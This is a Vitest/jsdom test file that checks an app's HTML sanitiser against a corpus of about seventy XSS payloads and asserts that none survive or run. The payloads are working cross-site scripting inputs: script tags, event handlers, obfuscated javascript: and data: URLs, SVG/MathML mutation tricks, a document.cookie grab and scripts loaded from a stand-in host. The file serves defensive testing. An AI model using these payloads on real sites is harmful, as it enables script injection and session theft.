// @vitest-environment jsdom
// jsdom on purpose (DESIGN.md section 2): DOMPurify is not safe under happy-dom, so a sanitiser test
// there would prove nothing. The web project's default is jsdom too; this keeps it so for this file.
import { render } from '@testing-library/react';
import DOMPurify from 'dompurify';
import { describe, expect, it, vi } from 'vitest';
import { type HtmlVariant, HtmlView, sanitizeHtml } from './HtmlView';

/** Message 704 of the demo (Ava on the Brew Trail), exactly as imported. */
const DEMO_XSS_MESSAGE =
  '<p>Six guest taps at Anchor &amp; Oar this Saturday from noon.</p><img src="x" onerror="alert(\'demo-xss\')"><p><a href="javascript:alert(\'demo-xss\')">Claim your bonus pint</a></p><p>See you there!</p>';

/**
 * Payloads from the OWASP XSS filter evasion cheat sheet, the DOMPurify and html5sec test suites, and
 * mutation-XSS reports: every way of running script that sanitising must take out.
 */
const XSS_CORPUS: readonly string[] = [
  DEMO_XSS_MESSAGE,
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script/xss src="https://xss.example/xss.js"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img """><script>alert("XSS")</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=" &#14;  javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, x.png 2x">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
  '<a href="java&#0000115cript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="livescript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="https://ok.example" onclick="alert(1)">a</a>',
  '<a href="https://ok.example" formaction="javascript:alert(1)">a</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">Go</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<body onload="alert(1)">',
  '<div onpointerover="alert(1)">hover</div>',
  '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<div data-href="javascript:alert(1)">data attribute</div>',
  '<style>@import "javascript:alert(1)";</style><p>x</p>',
  '<template><script>alert(1)</script></template>',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
];

/** Elements that run, embed or redirect to something, none of which partner HTML may keep. */
const FORBIDDEN_ELEMENTS = 'script, iframe, object, embed, base, meta, link, style, form, frame, frameset';
const SCRIPT_URL = /(?:java|vb|live)script:|data:text\/html/;

/** As a URL parser reads a value: without spaces and control characters, lower case. */
function normalised(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this removes
  return value.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '').toLowerCase();
}

/** Everything dangerous left in sanitised HTML, described; [] when it is clean. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const template = document.createElement('template');
  template.innerHTML = html;
  const root = template.content;
  for (const element of root.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`<${element.localName}>`);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const value = normalised(attribute.value);
      if (/^on/i.test(attribute.name)) found.push(`${attribute.name} on <${element.localName}>`);
      if (SCRIPT_URL.test(value)) found.push(`${attribute.name}="${attribute.value}"`);
      if (value.startsWith('data:') && !/^data:image\/(?:png|gif|jpe?g|webp|avif|bmp);/.test(value)) {
        found.push(`${attribute.name}="${attribute.value}" (data: URL)`);
      }
    }
  }
  return found;
}

describe.each<HtmlVariant>(['full', 'preview'])('sanitizeHtml (%s) over an XSS corpus', (variant) => {
  it.each(XSS_CORPUS)('leaves no script, event handler or script URL in %s', (payload) => {
    const clean = sanitizeHtml(payload, variant);
    expect(dangersIn(clean)).toEqual([]);
    // Sanitising what was sanitised changes nothing: no mutation turns it back into a payload.
    expect(dangersIn(sanitizeHtml(clean, variant))).toEqual([]);
  });
});

describe('the corpus check itself', () => {
  it('finds what unsanitised HTML and plain DOMPurify would leave', () => {
    expect(dangersIn(DEMO_XSS_MESSAGE)).toEqual([
      'onerror on <img>',
      'href="javascript:alert(\'demo-xss\')"',
    ]);
    // Harmless in today's browsers, but this app keeps no script URL anywhere.
    expect(
      dangersIn(DOMPurify.sanitize('<p style="background:url(javascript:alert(1))">s</p>')),
    ).toHaveLength(1);
    expect(dangersIn(DOMPurify.sanitize('<img src="data:text/html;base64,PHNjcmlwdD4=">'))).toHaveLength(2);
  });
});

describe('the demo message with an onerror image and a javascript: link', () => {
  it('keeps the text and the link text, without the handler or the link target', () => {
    const clean = sanitizeHtml(DEMO_XSS_MESSAGE);
    expect(clean).toBe(
      '<p>Six guest taps at Anchor &amp; Oar this Saturday from noon.</p><img src="x" alt=""><p><a>Claim your bonus pint</a></p><p>See you there!</p>',
    );
  });

  it('as a preview keeps text and emphasis only: no image, no link', () => {
    expect(sanitizeHtml(DEMO_XSS_MESSAGE, 'preview')).toBe(
      '<p>Six guest taps at Anchor &amp; Oar this Saturday from noon.</p> <p>Claim your bonus pint</p> <p>See you there!</p>',
    );
  });

  it('renders in the page without running anything', () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => {});
    const { container } = render(<HtmlView html={DEMO_XSS_MESSAGE} />);
    expect(dangersIn(container.innerHTML)).toEqual([]);
    expect(container.querySelector('img')).not.toHaveAttribute('onerror');
    expect(container.querySelector('a')).not.toHaveAttribute('href');
    expect(container).toHaveTextContent('Claim your bonus pint');
    expect(alert).not.toHaveBeenCalled();
  });
});

describe('what sanitising keeps', () => {
  it('keeps raster data pictures and ordinary links, and drops other data: URLs', () => {
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    );
    expect(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">')).toBe('<img alt="svg">');
    // A picture without a text alternative is marked decorative (else it is read as its file name).
    expect(sanitizeHtml('<img src="/pass/media/map.png">')).toBe('<img src="/pass/media/map.png" alt="">');
    expect(sanitizeHtml('<a href="/pass/rewards">Rewards</a>')).toBe('<a href="/pass/rewards">Rewards</a>');
  });

  it('keeps harmless inline styles and data attributes', () => {
    expect(sanitizeHtml('<p style="color: red" data-kind="note">x</p>')).toBe(
      '<p style="color: red" data-kind="note">x</p>',
    );
  });
});
